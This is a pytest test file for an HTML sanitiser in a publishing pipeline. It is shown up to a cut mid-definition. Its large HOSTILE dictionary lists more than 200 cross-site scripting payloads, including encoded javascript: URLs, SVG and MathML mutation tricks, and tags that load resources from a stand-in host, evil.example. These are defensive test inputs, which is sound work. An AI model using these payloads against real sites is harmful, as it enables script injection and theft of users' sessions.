"""press.sanitiser: what texts may have stays as it is, nothing runs, and what goes is named.

The laws read the clean HTML as lxml does and as browsers do (html5lib); test_canary.py asks a browser itself.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html import escape, unescape

import html5lib
import lxml.html
import markdown
import pytest
from docutils.core import publish_parts
from hypothesis import example, given
from hypothesis import strategies as st

from press.sanitiser import Cleaned, Finding, clean, plain_title, problems

# --- what stays -----------------------------------------------------------------------------------

KEPT = [
    '<p class="a" id="b" lang="de" dir="ltr" title="c" role="note" aria-label="d" data-e="f">x &amp; "y"</p>',
    "<p>\x01carried:1\x01 \x02wzxhzdk:0\x03</p>",
    '<a href="{filename}a.md">a</a><a href="{filename}/b c.md#d">b</a><a href="|filename|c.md">c</a><a href="{attach}d.pdf">d</a>',
    '<a href="{tag}C++">a</a><a href="{category}x: y">b</a><a href="{author}Ada L.">c</a><a href="{index}">d</a><img src="{static}/x.png" alt="">',
    '<a href="../b.html?x=1&amp;copy=2#ü">a</a><a href="#fn:1">b</a><a href="//x.org/">c</a><a href="mailto:a@b.org">d</a><a href="tel:+44">e</a>',
    '<a href="https://x.org/" hreflang="fr" rel="me nofollow" target="_blank" download="">a</a>',
    '<img src="data:image/png;base64,AA==" alt="a"><img src="x.webp" srcset="a.png 1x, {static}/b,c.png 2x" sizes="50vw" loading="lazy" alt="">',
    '<picture><source srcset="a.avif" type="image/avif" media="(min-width: 9em)"><img src="a.png" alt="a" width="1" height="2"></picture>',
    '<video controls="" poster="a.png" src="a.mp4"><track kind="captions" src="a.vtt" srclang="en" label="b" default=""></video>',
    '<figure><audio controls="" src="a.ogg"></audio><figcaption>a</figcaption></figure>',
    '<details open=""><summary>a</summary><p>b</p></details><time datetime="2026-01-01">c</time><data value="1">d</data>',
    "<ruby>a<rp>(</rp><rt>b</rt><rp>)</rp></ruby><kbd>c</kbd><mark>d</mark><ins>e</ins><del>f</del><sub>g</sub><sup>h</sup><wbr>",
    '<ul class="task-list"><li><input type="checkbox" disabled="" checked=""> a</li></ul>',
    '<ol start="3" type="a" reversed=""><li value="4">a</li></ol><dl><div><dt>b</dt><dd>c</dd></div></dl>',
    '<table border="1" class="docutils" frame="void" rules="none"><colgroup><col width="20%"></colgroup><tbody valign="top"><tr><th scope="row" colspan="2">a</th></tr></tbody></table>',
    "<pre>\n\n  a\n</pre><pre><code>\nb</code></pre>",
    '<p style="text-align:right;width:100.5%;color:#fff;background-color:rgb(1, 2, 3)">a</p>',
    '<center><font color="red" size="2" face="serif">a</font></center><tt>b</tt><big>c</big>',
    '<math display="block" xmlns="http://www.w3.org/1998/Math/MathML"><mrow><msup><mi mathvariant="bold">x</mi><mn>2</mn></msup><mo stretchy="false">(</mo></mrow></math>',
    '<svg viewBox="0 0 9 9" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" role="img" aria-label="a"><title>a</title>'
    '<defs><linearGradient id="g" gradientUnits="userSpaceOnUse"><stop offset="0" stop-color="red"></stop></linearGradient></defs>'
    '<g transform="scale(2)" fill="url(#g)"><path d="M0 0L9 9" style="fill:none;stroke-width:2"></path><use xlink:href="#g"></use></g>'
    '<a href="https://x.org/"><text x="1" y="2">b<tspan dy="1">c</tspan></text></a><image href="x.png" width="1"></image></svg>',
]


@pytest.mark.parametrize("trusted", [False, True])
@pytest.mark.parametrize("html", KEPT)
def test_what_texts_may_have_stays_as_it_is(html: str, trusted: bool) -> None:
    assert clean(html, trusted=trusted) == Cleaned(html, ())


@pytest.mark.parametrize(
    ("html", "result"),
    [
        ("<br /><hr/>&quot;&#39;&copy;&rsquo;", "<br><hr>\"'©’"),
        ("a<!-- b -->c<!---->d", "acd"),
        ("<P CLASS=a>b", '<p class="a">b</p>'),
        ("<div><p>a", "<div><p>a</p></div>"),
        ("<p>a<div>b</div></p>", "<p>a</p><div>b</div><p></p>"),
        ("<b><i>a</b>b</i>", "<b><i>a</i></b><i>b</i>"),
        ('<p style="text-align: center;">a</p>', '<p style="text-align:center">a</p>'),
        ('<input type="checkbox" disabled="disabled" />', '<input type="checkbox" disabled="">'),
        ("a\r\nb\x00c", "a\nbc"),
        ("a&nbsp;b&#160;c", "a&nbsp;b&nbsp;c"),
        ("a\xa0b", "a\xa0b"),
        ('<object data="{static}/y.svg" type="image/svg+xml">a "b"</object>', '<img alt="a &quot;b&quot;" src="{static}/y.svg">'),
        ("<div></div >", "<div></div>"),
        ("<table><tr><td>a</table>", "<table><tbody><tr><td>a</td></tr></tbody></table>"),
    ],
)
def test_what_merely_changes_its_spelling_is_not_said(html: str, result: str) -> None:
    assert clean(html) == Cleaned(result, ())


# --- what goes ------------------------------------------------------------------------------------


def found(html: str, *, trusted: bool = False) -> list[tuple[str, str]]:
    return [(one.code, one.needle) for one in clean(html, trusted=trusted).found]


UNSAFE = [
    ("<script>alert(1)</script>", "<script"),
    ('<p onclick="a()">a</p>', "onclick"),
    ('<a href="JaVaScRiPt:a()">a</a>', "JaVaScRiPt:"),
    ('<a href="java&#x09;script:a()">a</a>', "java&#x09;script:"),
    ('<a href="&#106;avascript&colon;a()">a</a>', "&#106;avascript&colon;"),
    ('<a href="vbscript:a">a</a>', "vbscript:"),
    ('<a href="data:text/html,a">a</a>', "data:"),
    ('<base href="/x/">', "<base"),
    ('<meta http-equiv="refresh" content="0;url=/">', "<meta"),
    ('<link rel="stylesheet" href="x.css">', "<link"),
    ("<style>p {}</style>", "<style"),
    ('<iframe src="https://x.org/"></iframe>', "<iframe"),
    ('<iframe srcdoc="a"></iframe>', "<iframe"),
    ('<object data="x.swf"></object>', "<object"),
    ('<embed src="x.swf">', "<embed"),
    ('<applet code="x"></applet>', "<applet"),
    ('<form action="/x">a</form>', "<form"),
    ("<noscript>a</noscript>", "<noscript"),
    ("<template>a</template>", "<template"),
    ("<xmp>a</xmp>", "<xmp"),
    ("<plaintext>a", "<plaintext"),
    ('<svg><a xlink:href="javascript:a()"></a></svg>', "javascript:"),
    ('<img src="javascript:a()">', "javascript:"),
    ('<p formaction="/x">a</p>', "formaction"),
    ('<p srcdoc="a">a</p>', "srcdoc"),
]


@pytest.mark.parametrize(("html", "needle"), UNSAFE)
def test_what_would_run_or_take_the_page_over_is_an_error(html: str, needle: str) -> None:
    assert found(html) == [("unsafe-html", needle)]


@pytest.mark.parametrize(
    ("html", "result", "needle"),
    [
        ("vector<int> a", "vector a", "<int"),
        ("to <path> and <list> on", "to  and  on", "<path"),
        ("<my-part>a</my-part>", "a", "<my-part"),
        ("<main>a</main>", "a", "<main"),
        ("</div>a", "a", "</div"),
        ("<td>a</td>", "a", "<td"),
        ("<li>a</li>", "a", "<li"),
        ("<dt>a</dt>", "a", "<dt"),
        ('<p accesskey="a">a</p>', "<p>a</p>", "accesskey"),
        ('<p tabindex="7">a</p>', "<p>a</p>", "tabindex"),
        ('<a href="odd://x.org/">a</a>', "<a>a</a>", "odd:"),
        ('<a href="http://[x">a</a>', "<a>a</a>", "http://[x"),
        ('<a href="#" target="menu">a</a>', '<a href="#">a</a>', "target"),
        ('<img src="data:image/svg+xml,a" alt="b">', '<img alt="b">', "data:"),
        ('<img srcset="data:image/png,a 1x" alt="b">', '<img alt="b">', "data:"),
        ('<p class="a" class="b">c</p>', '<p class="a">c</p>', "class"),
        ('<p style="color:red;position:fixed">a</p>', '<p style="color:red">a</p>', "position"),
        ('<p style="margin:-9em">a</p>', "<p>a</p>", "margin"),
        ('<p style="background:url(x.png)">a</p>', "<p>a</p>", "background"),
        ('<p style="width:\\75rl(x)">a</p>', "<p>a</p>", "width"),
        ('<svg><path fill="url(x.svg#a)"></path></svg>', "<svg><path></path></svg>", "fill"),
        ('<svg><use href="x.svg#a"></use></svg>', "<svg><use></use></svg>", "href"),
        ('<svg><animate attributeName="x"></animate></svg>', "<svg></svg>", "<animate"),
        ('<input type="checkbox">', '<input type="checkbox" disabled="">', "<input"),
        ("a<![CDATA[b]]>c", "ac", "<!"),
        ("a<?b?>c", "ac", "<?"),
        ("a</3 b>c", "ac", "</"),
        ("a<!-- b", "a", "<!--"),
        ('a<p class="b', "a", "<p"),
    ],
)
def test_what_else_is_not_on_the_list_goes_and_its_words_stay(html: str, result: str, needle: str) -> None:
    cleaned = clean(html)

    assert (cleaned.html, cleaned.found[0].code, cleaned.found[0].needle) == (result, "html-removed", needle)


def test_a_reference_to_what_is_no_character_is_an_error_and_those_of_windows_are_letters() -> None:
    cleaned = clean("a&#1;b &#150;")

    assert (cleaned.html, [(one.code, one.needle) for one in cleaned.found]) == ("a\ufffdb \u2013", [("control-character", "&#1;")])


def test_each_place_is_said_once() -> None:
    assert found("<p onclick=a onfocus=b><foo>c</foo></p><foo onclick=d>e</foo>") == [
        ("unsafe-html", "onclick"),
        ("unsafe-html", "onfocus"),
        ("html-removed", "<foo"),
        ("html-removed", "<foo"),
        ("unsafe-html", "onclick"),
    ]


# --- trusted sources ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        '<p style="position: fixed; background: url(x.png)">a</p>',
        '<my-part some="a" open="">a</my-part>',
        '<button type="button" popovertarget="a">b</button><input name="c" value="d"><select><option>e</option></select><textarea>\n\nf</textarea>',
        '<iframe src="/charts/a.html" width="9" title="b"></iframe><iframe src="{static}/c.html"></iframe>',
        '<a href="ftp://x.org/">a</a><map name="b"><area href="c.html" shape="rect" coords="1,2" alt="d"></map>',
        '<svg><circle r="1"><animate attributeName="r" from="1" to="9" dur="1s"></animate></circle></svg>',
        '<p contenteditable="" itemscope="" itemtype="https://schema.org/Thing">a</p><main>b</main>',
    ],
)
def test_a_trusted_source_may_have_all_that_cannot_run(html: str) -> None:
    assert (clean(html, trusted=True), clean(html).html == html) == (Cleaned(html, ()), False)


@pytest.mark.parametrize(
    ("html", "needle"),
    [
        *(pair for pair in UNSAFE if pair[1] != "<iframe"),
        ('<iframe src="https://x.org/"></iframe>', "https:"),
        ('<iframe src="/\\x.org/"></iframe>', "/\\x.org/"),
        ('<iframe srcdoc="a"></iframe>', "srcdoc"),
        ('<my-part onclick="a()">a</my-part>', "onclick"),
        ('<my-part href="javascript:a()">a</my-part>', "javascript:"),
        ('<button formaction="/x">a</button>', "formaction"),
        ('<svg><animate attributeName="xlink:href"></animate></svg>', "attributename"),
        ('<svg><set to="javascript:a()"></set></svg>', "javascript:"),
    ],
)
def test_trust_lets_nothing_run(html: str, needle: str) -> None:
    assert found(html, trusted=True) == [("unsafe-html", needle)]


# --- what converters make -------------------------------------------------------------------------

EXTENSIONS = ["extra", "codehilite", "toc", "admonition", "sane_lists", "smarty", "wikilinks", "meta"]


def test_all_that_python_markdown_makes_stays() -> None:
    text = """# Title {: #x .y data-k=v }

[TOC]

A note[^1], HTML, <me@x.org>, <https://x.org/?a=1&b=2>, ![alt "x"](x.png "title"){width=3}, [l]({filename}a.md), [t]({tag}c++).

*[HTML]: Hyper Text
[^1]: Foot **note**.

Term
:   Definition

| a | b |
|:--|--:|
| 1 | 2 |

!!! note "Title"
    Body

```python
x = "<script>" + '&amp;'
```

<div markdown="1" class="z">
*x*
</div>

1. a
2. b
    - c

> q

a `<b onclick>` \\<i> 1 < 2 & 3

***
    indented <b>

line  \nbreak [[Wiki Link]]
"""
    html = markdown.markdown(text, extensions=EXTENSIONS, extension_configs={"codehilite": {"linenums": True}, "toc": {"permalink": True}})
    cleaned = clean(html)

    assert (cleaned.found, tree(cleaned.html)) == ((), tree(html))


def test_all_that_docutils_makes_stays() -> None:
    text = """
Title *x*
=========

:field: value

.. figure:: x.png
   :align: right

   Caption

.. note:: Body

.. code:: python

   x = "<script>"

Term
  Definition

1. a [1]_ ``code`` :sub:`b` `link <https://x.org/>`_ |y|

-o  option

=====  =====
a      b
=====  =====
1      2
=====  =====

.. math:: a^2 + \\frac{1}{2}

.. [1] note
.. |y| replace:: z
"""
    html = publish_parts(text, writer="html4css1", settings_overrides={"math_output": "MathML"})["body"]
    cleaned = clean(html)

    assert (cleaned.found, words(cleaned.html)) == ((), words(html))


@given(
    st.lists(
        st.sampled_from(
            ["a", "b c", "*x*", "**y**", "`<z>`", "# h", "- i", "1. j", "> k", "[l](m.md)", "![n](o.png)", "&amp;", "&copy;", "1 < 2", "a & b", '"q"', "\xa0", "\\<",
             "    code", "| a | b |\n|--|--|\n| 1 | 2 |", "\n\n", "\n", "  \n", "---", "e[^1]", "[^1]: f", "T\n:   d", "https://x.org/?a=1&copy=2", "{: .c }", "é\u2028ü"]
        ),
        max_size=12,
    ).map(" ".join)
)  # fmt: skip
def test_markdown_without_html_is_never_reported_and_its_words_stay(text: str) -> None:
    html = markdown.markdown(text, extensions=EXTENSIONS)
    cleaned = clean(html)

    assert (cleaned.found, words(cleaned.html)) == ((), words(html))


# --- attacks --------------------------------------------------------------------------------------

# By kind. X stands for what would set the canary, EVIL for an address elsewhere.
HOSTILE = {
    "scripts": [
        "<script>X</script>",
        "<SCRIPT>X</SCRIPT>",
        "<script\n>X</script\n>",
        "<script/x>X</script/x>",
        "<script x='>'>X</script>",
        "<script type=module>X</script>",
        "<script src='data:text/javascript,X'></script>",
        "<script src=//EVIL/a.js></script>",
        "<scr<script>ipt>X</script>",
        "<<script>X//<</script>",
        "<script><!--\nX\n--></script>",
        "</p><script>X</script><p>",
        "<div><script>X</div>",
        "<p title='<script>X</script>'><script>X</script>",
        "<script async defer>X</script>",
        "<!--><script>X</script>-->",
        "<!--[if gte IE 4]><script>X</script><![endif]--><script>X</script>",
        "<?xml version='1.0'?><script>X</script>",
    ],
    "handlers": [
        "<img src=x onerror=X>",
        "<img src=x ONERROR='X'>",
        "<img/src='x'/onerror=X>",
        "<img src=x\nonerror\n=\nX>",
        "<img src=x onerror=&#119;indow.canary=1>",
        '<img src="x` `"` `onerror=X>',
        '<img src="x"onerror="X">',
        "<img \x00src=x onerror=X>",
        "<img src=x a='\x3e' onerror=X>",
        "<body onload=X>",
        "<body onpageshow=X>",
        "<html onclick=X>",
        "<p onclick=X>a</p>",
        "<p onmouseover=X>a</p>",
        "<p onpointerenter=X>a</p>",
        "<a href=# onclick=X>a</a>",
        "<a href=# onfocus=X>a</a>",
        "<p tabindex=0 onfocus=X autofocus>a</p>",
        "<details open ontoggle=X><summary>a</summary></details>",
        "<input onfocus=X autofocus>",
        "<select onfocus=X autofocus></select>",
        "<textarea onfocus=X autofocus></textarea>",
        "<button onclick=X>a</button>",
        "<marquee onstart=X>a</marquee>",
        "<p contenteditable onfocus=X>a</p>",
        "<p style='animation:a 1s' onanimationstart=X>a</p><style>@keyframes a{}</style>",
        "<p onscrollend=X oncopy=X onbeforecopy=X onwheel=X>a</p>",
        "<x-y onclick=X>a</x-y>",
        "<xss onclick=X>a</xss>",
        "<label onclick=X>a</label>",
        "<img srcset=x onerror=X>",
        "<picture><source srcset=x><img onerror=X></picture>",
    ],
    "media": [
        "<video src=x onerror=X></video>",
        "<video><source onerror=X src=x></video>",
        "<audio src=x onerror=X></audio>",
        "<audio src onloadstart=X></audio>",
        "<video poster=javascript:X></video><img src=x onerror=X>",
        "<video onloadstart=X><source src=x></video>",
        "<track onerror=X src=x>",
        "<image src=x onerror=X>",
        "<img src=javascript:X>",
        "<img dynsrc=javascript:X lowsrc=javascript:X>",
        "<input type=image src=x onerror=X>",
        "<bgsound src=javascript:X>",
    ],
    "links": [
        "<a href=javascript:X>a</a>",
        "<a href='JaVaScRiPt:X'>a</a>",
        "<a href=' javascript:X'>a</a>",
        "<a href='\x01javascript:X'>a</a>",
        "<a href='&#1;javascript:X'>a</a>",
        "<a href='java\tscript:X'>a</a>",
        "<a href='java&Tab;script:X'>a</a>",
        "<a href='java&NewLine;script:X'>a</a>",
        "<a href='java\r\nscript:X'>a</a>",
        "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;X'>a</a>",
        "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;X'>a</a>",
        "<a href='&#0000106avascript:X'>a</a>",
        "<a href='javascript&colon;X'>a</a>",
        "<a href='javascript:/*https://x.org*/X'>a</a>",
        "<a href='javascript://x.org/%0aX'>a</a>",
        "<a href='javascript:X' target=_self>a</a>",
        "<a href=javascript:X download=a>a</a><a href=javascript:X>b</a>",
        "<a href='javascript:X//{filename}a.md'>a</a>",
        "<area href=javascript:X>",
        "<map name=m><area href=javascript:X shape=default></map><img usemap=#m src=x><a href=javascript:X>a</a>",
        "<a href='vbscript:X'>a</a>",
        "<a href='data:text/html,<script>X</script>'>a</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
        "<a href='blob:X'>a</a>",
        "<a href='view-source:javascript:X'>a</a>",
        "<a ping=//EVIL/ href=#>a</a>",
        "<a href=x href=javascript:X>a</a>",
        "<a xlink:href=javascript:X>a</a>",
    ],
    "frames": [
        "<iframe src=javascript:parent.canary=1></iframe>",
        "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
        "<iframe srcdoc='&lt;script>parent.canary=1&lt;/script>' src=/x></iframe>",
        "<iframe src='data:text/html,<script>X</script>'></iframe>",
        "<iframe src=//EVIL/></iframe>",
        "<iframe src='/\\EVIL/'></iframe>",
        "<iframe src='\\\\EVIL/'></iframe>",
        "<iframe src='/\t/EVIL/'></iframe>",
        "<iframe src='ht\ntps://EVIL/'></iframe>",
        "<iframe onload=X></iframe>",
        "<iframe/onload=X>",
        "<frameset onload=X><frame src=javascript:X></frameset>",
        "<object data=javascript:X></object>",
        "<object data='data:text/html,<script>parent.canary=1</script>'></object>",
        "<object data=//EVIL/></object>",
        "<object data='x' type='image/svg+xml' onerror=X>a</object>",
        '<object data="//EVIL/x.html">a</object>',
        "<embed src=//EVIL/>",
        "<embed src='data:text/html,<script>parent.canary=1</script>'>",
        "<applet code=x onerror=X></applet><embed src=//EVIL/>",
        "<portal src=//EVIL/ onload=X></portal>",
    ],
    "forms": [
        "<form action=javascript:X><button>a</button></form>",
        "<form><button formaction=javascript:X>a</button></form>",
        "<form><input type=submit formaction=javascript:X></form>",
        "<form id=f></form><button form=f formaction=javascript:X>a</button>",
        "<form action=//EVIL/><input name=a></form>",
        "<form onsubmit=X><button>a</button></form>",
        "<isindex action=javascript:X type=submit>",
        "<form><input type=image src=x formaction=javascript:X></form>",
        "<form><select onchange=X><option>a</select><button onclick=X>b</button></form>",
        "<button popovertarget=p>a</button><p popover id=p onbeforetoggle=X ontoggle=X>b</p>",
    ],
    "the page": [
        "<base href=//EVIL/><a href=a>a</a><img src=x.png>",
        "<base href=javascript:/a/><a href=#>a</a>",
        "<base target=_blank>",
        "<meta http-equiv=refresh content='0;url=//EVIL/'>",
        "<meta http-equiv=refresh content='0;url=javascript:X'>",
        "<META HTTP-EQUIV=refresh CONTENT='0; URL=//EVIL/'>",
        "<meta http-equiv=set-cookie content='a=b'>",
        "<link rel=stylesheet href=//EVIL/a.css>",
        "<link rel=prefetch href=//EVIL/a>",
        "<link rel=preload as=image href=//EVIL/a>",
        "<link rel=icon href=//EVIL/a>",
        "<link rel=stylesheet href=x onerror=X>",
        "<style>@import '//EVIL/a.css';</style>",
        "<style>body{background:url(//EVIL/a.png)}</style>",
        "<style onload=X></style>",
        "<style>*{display:none}</style><style onload=X></style>",
        "<title>a</title><link rel=stylesheet href=//EVIL/b.css>",
        "<dialog open oncancel=X onclick=X>a</dialog>",
        "<body background=//EVIL/a.png>",
    ],
    "styles": [
        "<p style='background:url(javascript:X)' onclick=X>a</p>",
        "<p style='width:expression(X)' onclick=X>a</p>",
        "<p style='behavior:url(x.htc);-moz-binding:url(x.xml#a)' onclick=X>a</p>",
        "<p style='background:u\\72l(//EVIL/a.png)'>a</p>",
        "<p style='background:image-set(\"//EVIL/a.png\" 1x)'>a</p>",
        "<p style='color:red}</style><script>X</script>'>a</p><img src=x onerror=X>",
        "<p style='color:red;background:\\75\\72\\6c(//EVIL/a.png)'>a</p>",
        "<p style='--a:url(javascript:X);background:var(--a)' onclick=X>a</p>",
        "<p style='list-style:-webkit-image-set(\"//EVIL/a.png\" 1x)' onclick=X>a</p>",
        "<table background=//EVIL/a.png><td background=//EVIL/b.png>a</table>",
    ],
    "drawings": [
        "<svg onload=X></svg>",
        "<svg/onload=X>",
        "<svg><script>X</script></svg>",
        "<svg><script href='data:text/javascript,X'></script></svg>",
        "<svg><script xlink:href='data:text/javascript,X'/></svg>",
        "<svg><script>&#119;indow.canary=1</script></svg>",
        "<svg><a xlink:href=javascript:X><text y=9>a</text></a></svg>",
        "<svg><a href=javascript:X><rect width=9 height=9 /></a></svg>",
        "<svg><a href='java&#10;script:X'><text y=9>a</text></a></svg>",
        "<svg><animate onbegin=X attributeName=x dur=1s></svg>",
        "<svg><set onbegin=X attributeName=x></svg>",
        "<svg><a><animate attributeName=href values=javascript:X /><text y=9>a</text></a></svg>",
        "<svg><a><set attributeName=href to=javascript:X /><text y=9>a</text></a></svg>",
        "<svg><a><animate attributeName=xlink:href from=javascript:X to=javascript:X /><text y=9>a</text></a></svg>",
        "<svg><a id=a><text y=9>a</text></a><animate href=#a attributeName=href to=javascript:X /></svg>",
        "<svg><a id=b><text y=9>a</text></a><animate xlink:href=#b attributeName=href values=' javascript:X' /></svg>",
        "<svg><foreignObject><img src=x onerror=X></foreignObject></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.canary=1</script>'></iframe></foreignObject></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=a xmlns=\"http://www.w3.org/2000/svg\"><image href=\"1\" onerror=\"X\" /></svg>#a' /></svg>",
        "<svg><use href='//EVIL/a.svg#a' onload=X /></svg>",
        "<svg><image href=x onerror=X></svg>",
        "<svg><image href='data:image/svg+xml,<svg onload=X />' onload=X></svg>",
        "<svg><rect fill='url(//EVIL/a.svg#b)' width=9 height=9 onclick=X /></svg>",
        "<svg><rect style='filter:url(//EVIL/a.svg#b)' width=9 height=9 onclick=X /></svg>",
        "<svg><style>@import '//EVIL/a.css';</style></svg>",
        "<svg><style onload=X></style></svg>",
        "<svg><title><img src=x onerror=X></title></svg>",
        "<svg><desc><img src=x onerror=X></desc></svg>",
        "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>X</handler></svg><svg onload=X>",
        "<svg><feImage href=//EVIL/a.png /></svg><svg onload=X>",
        "<svg xmlns='http://www.w3.org/2000/svg'><discard onbegin=X /></svg>",
    ],
    "formulas": [
        "<math href=javascript:X>a</math><img src=x onerror=X>",
        "<math><mi xlink:href=javascript:X>a</mi></math><math onclick=X><mi>a</mi></math>",
        "<math><maction actiontype='statusline#//EVIL/' xlink:href=javascript:X onclick=X>a</maction></math>",
        "<math><mtext><img src=x onerror=X></mtext></math>",
        "<math><mtext><script>X</script></mtext></math>",
        "<math><annotation-xml encoding='text/html'><script>X</script></annotation-xml></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=X></annotation-xml></math>",
        "<math><mi><svg onload=X></svg></mi></math>",
        "<math><mglyph src=x onerror=X /></math><math onclick=X>a</math>",
        "<math><mi onclick=X>a</mi></math>",
    ],
    "mutations": [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=X&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>",
        "<math><mtext><table><mglyph><style><math><mi title='</style><img src onerror=X>'>",
        "<svg></p><style><a id='</style><img src=1 onerror=X>'>",
        "<svg><style>&lt;/style&gt;&lt;img src=x onerror=X&gt;</style></svg><img src=x onerror=X>",
        "<svg><p><style><g title='</style><img src onerror=X>'>",
        "<math><mi><style><!--</style><img src=x onerror=X>--></mi></math>",
        "<noscript><p title='</noscript><img src=x onerror=X>'></noscript>",
        "<noscript><style></noscript><img src=x onerror=X></style>",
        "<svg><desc><noscript><p title='</noscript><img src=x onerror=X>'>",
        "<template><img src=x onerror=X></template><img src=x onerror=X>",
        "<div><template shadowrootmode=open><img src=x onerror=X></template></div>",
        "<xmp><p title='</xmp><img src=x onerror=X>'></xmp>",
        "<noembed><p title='</noembed><img src=x onerror=X>'></noembed>",
        "<noframes><p title='</noframes><img src=x onerror=X>'></noframes>",
        "<textarea><p title='</textarea><img src=x onerror=X>'></textarea>",
        "<title><p title='</title><img src=x onerror=X>'></title>",
        "<iframe><p title='</iframe><img src=x onerror=X>'></iframe>",
        "<style><p title='</style><img src=x onerror=X>'></style>",
        "<select><template><style></template></select><img src=x onerror=X>",
        "<select><svg><script>X</script></svg></select><img src=x onerror=X>",
        "<table><caption><svg><desc><table></caption><style><img title='</style><img src=x onerror=X>'>",
        "<listing>&lt;img src=x onerror=X&gt;</listing><img src=x onerror=X>",
        "<svg><![CDATA[><img src=x onerror=X>]]></svg>",
        "<a<img src=x onerror=X>><img src=x onerror=X>",
        "<p id=\"a&quot;&gt;&lt;img src=x onerror=X&gt;\"><img src=x onerror=X>",
        "<b><a href=#><p></b><img src=x onerror=X></a>",
        "<plaintext><img src=x onerror=X>",
    ],
    "breaking out": [
        "</div></main></body></html><script>X</script>",
        "</li></ul></article><img src=x onerror=X>",
        "</script><script>X</script>",
        "</style></title></textarea><script>X</script>",
        "--><script>X</script>",
        "]]><script>X</script>",
        "'\"><img src=x onerror=X>",
        "<p title=\"<img src=x onerror=X>",
        "<!-- <img src=x onerror=X>",
        "<img src=x onerror=X",
        "<img src=\"x\" alt='\" onerror=X>",
        "<div class='<script>X</script>' onclick=X",
        "&lt;script&gt;X&lt;/script&gt;<script>X</script>",
        "+ADw-script+AD4-X+ADw-/script+AD4-<script>X</script>",
        "\ufeff<script>X</script>",
    ],
}  # fmt: skip


def attacks(kind: str) -> list[str]:
    """The attacks of a kind, as they would be tried."""
    return [attack.replace("X", "window.canary=1").replace("EVIL", "evil.example") for attack in HOSTILE[kind]]


@pytest.mark.parametrize("trusted", [False, True])
@pytest.mark.parametrize("kind", HOSTILE)
def test_no_attack_is_left_and_each_is_named(kind: str, trusted: bool) -> None:
    cleaned = {attack: clean(attack, trusted=trusted) for attack in attacks(kind)}

    assert {attack: one for attack, one in cleaned.items() if harm(one.html, trusted=trusted) or not one.found} == {}


def test_the_attacks_are_many() -> None:
    assert sum(map(len, HOSTILE.values())) >= 200


# --- laws -----------------------------------------------------------------------------------------

_FORBIDDEN = {
    "applet", "base", "embed", "form", "frame", "frameset", "link", "meta", "noembed", "noframes", "noscript", "object", "plaintext",
    "script", "style", "template", "xmp", "foreignobject", "annotation-xml",
}  # fmt: skip
_LEADS = {"href", "src", "action", "formaction", "data", "poster", "cite", "background", "to", "from", "values", "longdesc", "ping"}


def elements(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    """Every element of the HTML with its attributes, as lxml reads it and as browsers do."""
    for root in (
        lxml.html.document_fromstring(f"<div>{html}</div>") if html.strip("\x00-\x20") else [],
        html5lib.parseFragment(f"<div>{html}</div>", namespaceHTMLElements=False),
    ):
        for element in getattr(root, "iter", list)():
            if isinstance(element.tag, str):
                yield _name(element.tag), {_name(str(name)): value for name, value in element.attrib.items()}


def _name(name: str) -> str:
    return name.rpartition("}")[2].rpartition(":")[2].lower()


def harm(html: str, *, trusted: bool) -> list[str]:
    """What in the HTML would run or take the page over, by rules of the test's own."""
    told = []
    for tag, attributes in elements(html):
        if tag in _FORBIDDEN or (tag == "iframe" and not trusted):
            told.append(tag)
        for name, value in attributes.items():
            read = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on") or name in ("srcdoc", "formaction", "action"):
                told.append(f"{tag} {name}")
            if name in _LEADS and re.match(r"(?:java|vb|live)script:|mocha:|data:(?!image/(?:png|jpe?g|gif|webp)[;,])", read):
                told.append(f"{tag} {name}={value}")
            if name == "src" and tag == "iframe" and re.match(r"[a-z+.-]+:|[/\\]{2}", read):
                told.append(f"{tag} {name}={value}")
            if not trusted and name == "style" and re.search(r"position|url\((?![\"']?#)|expression|\\", read):
                told.append(f"{tag} {name}={value}")
    return told


def tree(html: str) -> list[object]:
    """The tree of the HTML as browsers read it, without the spelling of styles."""
    root = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return [
        (str(one.tag), sorted((str(name), re.sub(r"[ ;]", "", value)) for name, value in one.attrib.items()), one.text, one.tail)
        for one in root.iter()
    ]


def words(html: str) -> str:
    root = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return "".join(root.itertext())


TAGS = st.sampled_from(
    re.findall(
        r"\S+",
        "a abbr b base body br button circle code dd desc details div dl dt em embed font foreignObject form frame g h1 head html i iframe image "
        "img input li link listing main marquee math meta mglyph mi ms mtext annotation-xml malignmark nobr noembed noframes noscript object ol "
        "optgroup option p path plaintext pre ruby rt script select span style summary svg table tbody td template text textarea th thead "
        "title tr u ul use video x-y xmp",
    )
)
ATTRIBUTES = st.sampled_from(
    ["onclick=x()", 'onerror="x()"', "ONLOAD='x()'", "on\x0cload=x", 'href="javascript:x()"', "href=java&#10;script:x()", 'href=" &#1;javascript:x()"',
     'xlink:href="JAVASCRIPT:x()"', 'src="data:text/html,<script>x()</script>"', 'src="data:image/png,x"', 'srcdoc="<script>x()</script>"',
     'style="position:fixed"', 'style="background:url(x)"', 'style="fill:url(#x);color:red"', 'class="a"', 'id="b"', 'title="</p><script>x()</script>"',
     'title="--><img src=x onerror=x()>"', "title=`a", 'formaction="javascript:x()"', 'action="x"', 'attributeName="href"', 'to="javascript:x()"',
     'type="checkbox"', 'http-equiv="refresh"', 'encoding="text/html"', "/", '"', "'", "=", "<", 'alt="</title><img onerror=x()>"', 'src="//x.org"',
     'href="{filename}a.md"', 'name="</noscript><img onerror=x()>"', 'data-a="</style><script>x()</script>"', 'poster="javascript:x()"', "is=x-y", "slot=a"]
)  # fmt: skip
STARTS = st.builds(
    lambda tag, attributes, close: f"<{tag} {' '.join(attributes)}{close}",
